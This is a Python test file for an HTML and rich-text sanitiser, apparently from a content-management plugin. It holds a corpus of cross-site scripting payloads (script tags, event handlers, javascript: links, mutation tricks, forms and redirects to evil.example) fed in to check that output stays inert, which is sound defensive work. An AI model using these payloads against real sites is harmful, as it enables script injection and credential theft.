"""What is written is inert, whoever shows it."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from plugins.kernel.rich_text import clean_blocks, clean_html, clean_url, has_markup, plain_text

#: Ways in which script has been smuggled into text.
CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p onclick=alert(1) id=x>y</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<<script>alert(1)//<</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x\x00 onerror=alert(1)>",
]
HARMLESS = {"a", "p", "table", "h1", "blockquote"}


class Seen(HTMLParser):
    """Collects what a browser could act upon."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs


@pytest.mark.parametrize("attack", CORPUS)
def test_html_keeps_nothing_that_acts(attack):
    seen = Seen(clean_html(f"<p>before</p>{attack}<p>after</p>"))

    assert set(seen.tags) <= HARMLESS
    assert {name for name, _ in seen.attributes} <= {"href", "rel", "title"}
    addresses = [value for name, value in seen.attributes if name == "href"]
    assert all(clean_url(address) for address in addresses)


@pytest.mark.parametrize("attack", CORPUS)
def test_plain_text_has_no_tag_however_often_it_is_unescaped(attack):
    import html

    text = plain_text(f"前 {attack} 后")

    for _ in range(4):
        assert Seen(text).tags == []
        text = html.unescape(text)


@pytest.mark.parametrize("attack", CORPUS)
def test_blocks_are_inert_in_every_part(attack):
    content = {
        "blocks": [
            {
                "key": attack,
                "text": attack,
                "type": attack,
                "depth": attack,
                "data": {"html": attack},
                "inlineStyleRanges": [{"offset": 0, "length": 1, "style": attack}],
                "entityRanges": [{"offset": 0, "length": 1, "key": 0}],
                attack: attack,
            }
        ],
        "entityMap": {
            "0": {"type": "LINK", "mutability": attack, "data": {"url": attack, "onclick": "x"}},
            "1": {"type": attack, "mutability": "MUTABLE", "data": {"html": attack}},
            "2": {"type": "IMAGE", "data": {"src": attack}},
        },
        attack: attack,
    }

    cleaned = clean_blocks(content)

    def texts(value):
        if isinstance(value, dict):
            for name, each in value.items():
                yield from texts(name)
                yield from texts(each)
        elif isinstance(value, list):
            for each in value:
                yield from texts(each)
        elif isinstance(value, str):
            yield value

    assert [text for text in texts(cleaned) if Seen(text).tags] == []
    assert cleaned["blocks"][0]["type"] == "unstyled"
    assert cleaned["blocks"][0]["data"] == {}


def test_what_people_write_stays():
    for text in ("茶 & 酒", "3 < 5 斤", "规格：<特级>", "“保安狗血桃”"):
        assert plain_text(text) == text
        assert not has_markup(text)
    page = '<h2>配送</h2><p>见 <a href="https://daye.example/">说明</a>。</p>'
    assert Seen(clean_html(page)).tags == ["h2", "p", "a"]


def test_styles_and_links_of_untouched_text_stay():
    block = {
        "key": "a1b2c",
        "text": "鲜桃",
        "type": "header-two",
        "depth": 0,
        "inlineStyleRanges": [{"offset": 0, "length": 2, "style": "BOLD"}],
        "entityRanges": [{"offset": 0, "length": 2, "key": 0}],
        "data": {"part": "label"},
    }
    link = {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "/pages/about/"}}
    content = {"blocks": [block], "entityMap": {"0": link}}

    assert clean_blocks(content) == content
    assert clean_blocks(clean_blocks(content)) == content


@pytest.mark.parametrize("nonsense", [None, 7, "x", [1], {"blocks": 3, "entityMap": [1]}])
def test_nonsense_becomes_nothing(nonsense):
    assert clean_blocks(nonsense) in ({}, {"blocks": [], "entityMap": {}})


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "//evil.example",
        "/\\evil.example", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "", 7,
        "javascript&colon;alert(1)",
    ],
)  # fmt: skip
def test_addresses_that_act_or_mislead_are_dropped(url):
    assert clean_url(url) is None
